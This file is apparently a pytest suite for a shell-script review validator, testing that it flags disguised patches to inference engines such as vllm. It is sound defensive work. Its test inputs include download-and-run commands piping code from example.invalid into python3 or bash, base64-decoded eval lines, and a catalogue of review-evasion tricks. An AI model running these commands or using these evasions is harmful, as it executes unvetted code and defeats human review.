"""The review's shell reading (tree-sitter-bash): the 24 evasions of the attack run, generated
with random names and layouts, are each caught (FAIL) or WARNed at their line; the real tree's
harness/infrastructure patches are not FAILs; any input up to 10 MB is read."""

from __future__ import annotations

import base64
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from relpipe.core.status import FAIL, WARN
from relpipe.validate.review import bash
from relpipe.validate.review.launch import shell_hits

NAME = st.from_regex(r"[a-z][a-z0-9_]{0,8}", fullmatch=True).filter(
    lambda s: s not in {"if", "fi", "do", "done", "then", "else", "for", "in", "case", "esac"}
)
VAR = st.from_regex(r"[A-Z][A-Z0-9_]{0,8}", fullmatch=True)
ENGINE = st.sampled_from(["vllm", "sglang", "tensorrt_llm", "aiter"])
SITE = st.sampled_from(
    [
        "/usr/local/lib/python3.12/dist-packages",
        "/usr/lib/python3/site-packages",
        "/opt/venv/lib/python3.10/site-packages",
        "/sgl-workspace",
    ]
)


@st.composite
def evasion(draw: st.DrawFn) -> tuple[str, str]:
    """(script lines with a `@@` marker on the line that must be reported, family)."""
    name, var, engine, site = draw(NAME), draw(VAR), draw(ENGINE), draw(SITE)
    patch = f"/tmp/{name}.patch"
    forms: list[tuple[str, str]] = [
        (f"@@vllm serve {name} --hf-ov\\\nerrides '{{}}'", "arch"),
        (f"echo don\\'t\n@@git apply {patch}", "patch"),
        (f"{var}=$((1<<{var}))\n@@git apply {patch}", "patch"),
        (f"@@vllm serve {name}\\ #y --hf-overrides '{{}}'", "arch"),
        (f"@@vllm serve {name} --hf\"-\"overrides '{{}}'", "arch"),
        (f"@@vllm serve {name} $'--hf-ov\\x65rrides' '{{}}'", "arch"),
        (f"@@{var}=--hf-overrides\n@@vllm serve {name} ${{{var}}} '{{}}'", "arch"),
        (f'{name}() {{ echo "+ $*"; "$@"; }}\n@@{name} git apply {patch}', "patch"),
        (f"[ -f /tmp/{name} ] || git apply {patch}".replace("[", "@@[", 1), "patch"),
        (f"@@if true; then patch -p1 < {patch}; fi", "patch"),
        (f"@@git -C /tmp/{name} apply {patch}", "patch"),
        (f"@@sed -e 's/a/b/' -i {site}/{engine}/{name}.py", "patch"),
        (f"{var}={site}\n@@perl -pi -e 's/a/b/' ${var}/{engine}/{name}.py", "patch"),
        (f"@@cp -t {site}/{engine}/ /tmp/{name}.py", "patch"),
        (f"@@tar -C {site} -xf /tmp/{name}.tar", "patch"),
        (f"@@pip3.12 install {engine}==0.1", "patch"),
        (f"@@pip --no-cache-dir install {engine}", "patch"),
        (f"@@env patch -p1 < {patch}", "patch"),
        ("git fetch origin pull/1/head\n@@git cherry-pick FETCH_HEAD", "patch"),
        (f"@@curl -sL https://example.invalid/{name}.py | python3", "patch"),
        (f"@@source ./{name}.env", "unread"),
        (f'@@. "${var}"', "unread"),
        (f'@@eval "${var}"', "unread"),
        (f'@@bash -c "git apply {patch}"', "patch"),
        (
            f"@@python3 - <<'PY'\nimport importlib.util, pathlib\n"
            f"target = pathlib.Path(importlib.util.find_spec('{engine}').origin).parent / 'x.py'\n"
            f"@@target.write_text(target.read_text().replace('a', 'b'))\nPY",
            "patch",
        ),
    ]
    b64 = base64.b64encode(f"git apply {patch}".encode()).decode()
    forms += [  # issue 34.9: what a command writes, after variables and functions are resolved
        (
            f"{var}=$(python -c 'import {engine}; print({engine}.__spec__.origin)')\n"
            f'@@install -m 644 /tmp/{name}.py "${var}/x.py"',
            "patch",
        ),
        (
            f"{var}=$(pip show {engine} | grep Location | cut -d' ' -f2)\n"
            f'@@cat /tmp/{name}.py > "${var}/{engine}/x.py"',
            "patch",
        ),
        (f"@@git -C /tmp/srt-slurm/../..{site} apply {patch}", "patch"),
        (f"@@awk -i inplace '{{print}}' {site}/{engine}/{name}.py", "patch"),
        (f"@@ex -sc '%s/a/b/g|x' {site}/{engine}/{name}.py", "patch"),
        (
            f"echo '{engine} @ git+https://github.com/{name}/{engine}' > /tmp/{name}.txt\n"
            f"@@pip install -r /tmp/{name}.txt",
            "patch",
        ),
        (f'{name}_cp() {{ cp "$@"; }}\n@@{name}_cp /tmp/{name}.py {site}/{engine}/x.py', "patch"),
        (f"@@vllm serve {name} --hf-overr '{{}}'", "arch"),
        (f"@@vllm serve {name} --hf_o={{}}", "arch"),
        (f'@@eval "$(echo {b64} | base64 -d)"', "patch"),
        (f'{var}="$(echo {b64} | base64 -d)"\n@@eval "${var}"', "patch"),
        (f'{var}=/tmp/{name}.sh\n@@source "${var}"', "unread"),
        (f'@@. "${var}/{name}.sh"', "unread"),
    ]
    form, family = draw(st.sampled_from(forms))
    wrap = draw(st.sampled_from(["", "if", "function", "brace"]))
    lines = form.splitlines()

    # Indent a block, except the continuation of a backslash-newline (bash would split there)
    # and heredoc bodies (their text is data).
    def indent(pad: str) -> list[str]:
        if "<<" in form:
            return [pad + lines[0], *lines[1:]]
        return [
            pad + b if k == 0 or not lines[k - 1].endswith("\\") else b for k, b in enumerate(lines)
        ]

    body = lines
    if wrap == "if":
        body = [f'if [[ "${var}" == "{name}" ]]; then', *indent("    "), "fi"]
    elif wrap == "function":
        body = [f"{name}_run() {{", *indent("  "), "}", f"{name}_run"]
    elif wrap == "brace":
        body = ["{", *indent("\t"), "} 2>&1"]
    filler = draw(
        st.lists(
            st.sampled_from(
                [
                    "# a comment with git apply in it",
                    'echo "git apply is not run here"',
                    f"export {var}_X=1",
                    f'{var}_Y="${{{var}_X:-2}}"',
                    "set -euo pipefail",
                    "",
                ]
            ),
            max_size=6,
        )
    )
    return "\n".join(["#!/usr/bin/env bash", *filler, *body]) + "\n", family


def _expected_lines(script: str) -> set[int]:
    lines = set()
    for n, text in enumerate(script.splitlines(), start=1):
        if "@@" in text:
            lines.add(n)
    return lines


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(evasion())
def test_every_evasion_form_is_caught_or_warned_at_its_line(case: tuple[str, str]) -> None:
    marked, family = case
    script = marked.replace("@@", "")
    raw = script.splitlines()
    hits = shell_hits("x.sh", script, raw)
    found = {
        (h.line, h.kind.split(":", 1)[0])
        for h in hits
        if h.severity in (FAIL, WARN) and h.kind.split(":", 1)[0] in ("patch", "arch", "unread")
    }
    wanted = _expected_lines(marked)
    assert any(line in wanted for line, _ in found), (marked, sorted(found))
    if family != "unread":
        # The command itself is recognised, not only that something was unreadable.
        assert any(line in wanted and kind == family for line, kind in found), (marked, found)


def test_messages_comments_and_the_harness_are_not_patches() -> None:
    script = "\n".join(
        [
            "# git apply fix.patch",
            'echo "run: git apply fix.patch"',
            'printf "%s\\n" "patch -p1 < x.patch"',
            'cp "$(_eval_patches_dir)/lm_eval_sitecustomize.py" "$patch_dir/sitecustomize.py"',
            "git -C srt-slurm apply ../fix.patch",
            "cd srt-slurm && git apply ../launcher.patch",
            "grep patch notes.txt",
            "curl -LsSf https://astral.sh/uv/install.sh | sh",
        ]
    )
    hits = shell_hits("x.sh", script, script.splitlines())
    assert [h for h in hits if h.severity in (FAIL, WARN)] == []
    assert {h.kind for h in hits} >= {"infra: git apply in the srt-slurm launcher checkout"}


def test_eval_of_a_known_string_is_read_and_an_unknown_one_warns() -> None:
    script = 'CMD="git apply /tmp/x.patch"\neval "$CMD"\neval "$OTHER"\n'
    hits = shell_hits("x.sh", script, script.splitlines())
    assert ("patch: git apply", 2, FAIL) in {(h.kind, h.line, h.severity) for h in hits}
    assert any(h.line == 3 and h.kind.startswith("unread:") and h.severity == WARN for h in hits)


def test_the_real_tree_scripts_parse(inferencex_tree: Path) -> None:
    """tree-sitter-bash reads all but one real script without an error region (measured: 262
    of 263 over both trees; the one is `exec 3<>` in tilert's run_node.sh, reported as WARN)."""
    scripts = sorted((inferencex_tree / "benchmarks").rglob("*.sh"))
    scripts += sorted((inferencex_tree / "runners").rglob("*.sh"))
    trees = {p.name: bash.parse_tree(p.read_text()) for p in scripts}
    bad = [name for name, tree in trees.items() if tree is None or tree.root_node.has_error]
    assert len(scripts) > 100 and bad == ["run_node.sh"]


@pytest.mark.timeout(300)
@settings(max_examples=8, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.sampled_from(["a ", "'", '"', "$(", "${", "a\\\nb ", "<<E\n", "a=(", "((", "`", "#", "\n"]),
    st.integers(min_value=10_000, max_value=10_000_000),
)
def test_any_input_up_to_10_mb_is_read_or_reported_unread(unit: str, size: int) -> None:
    script = unit * (size // len(unit))
    hits = shell_hits("big.sh", script, script.splitlines())
    unread = [h for h in hits if h.kind.startswith("unread: not read")]
    if len(script) > bash.MAX_SCRIPT_BYTES:
        assert [h.severity for h in unread] == [WARN] and f"{len(script)} bytes" in unread[0].text


def test_duplicate_keys_are_found_with_both_lines() -> None:
    from relpipe.validate.review.yamlkeys import duplicates

    text = "a:\n  x: 1\n  y: [1, {x: 2, x: 3}]\n  x: 4\nb: &k {p: 1}\n"
    text += "c:\n  <<: *k\n  <<: *k\na: 2\n"
    found, why = duplicates(text)
    assert why is None
    assert [(d.line, d.key, d.first) for d in found] == [(3, "x", 3), (4, "x", 2), (9, "a", 1)]


@pytest.mark.parametrize(
    "script",
    [
        "curl -sL https://example.invalid/p.py | python3",
        "wget -qO- https://example.invalid/p.sh | bash",
        "python3 <(curl -s https://example.invalid/p.py)",
    ],
)
def test_downloaded_code_run_by_an_interpreter_fails(script: str) -> None:
    """Issue 34.9: it was a WARN; code nobody reviewed runs in the serving container."""
    hits = shell_hits("x.sh", script, script.splitlines())
    assert ("patch: runs downloaded code", FAIL) in {(h.kind, h.severity) for h in hits}


@pytest.mark.parametrize(
    "script",
    [
        "if [[ $MODEL_PREFIX == zzz ]] || true; then\n    git apply x.patch\nfi",
        "if [[ $MODEL_PREFIX == zzz ]]; then echo; fi\n    git apply x.patch",
        "if ! [[ $MODEL_PREFIX == zzz ]]; then\n    git apply x.patch\nfi",
    ],
)
def test_a_guard_that_does_not_exclude_the_key_keeps_the_hit(script: str) -> None:
    """Issue 34.9: an `if` whose condition can hold for any key (`|| true`, `!`), or a one-line
    `if ... fi` above an indented line, was read as excluding every key but `zzz`."""
    (hit,) = [
        h for h in shell_hits("x.sh", script, script.splitlines()) if h.kind == "patch: git apply"
    ]
    assert hit.guard == ()
    guarded = "if [[ $MODEL_PREFIX == zzz ]]; then\n    git apply x.patch\nfi"
    (kept,) = shell_hits("x.sh", guarded, guarded.splitlines())
    assert kept.guard == (("MODEL_PREFIX", "zzz"),)
